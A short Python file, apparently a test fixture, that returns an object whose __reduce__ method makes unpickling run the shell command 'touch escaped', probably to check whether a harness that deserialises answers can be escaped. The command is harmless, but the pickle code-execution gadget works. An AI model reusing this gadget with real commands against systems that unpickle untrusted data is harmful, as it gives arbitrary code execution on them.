"""Answers with an object whose pickle runs a command."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch escaped",)


def run():
    return Bomb()
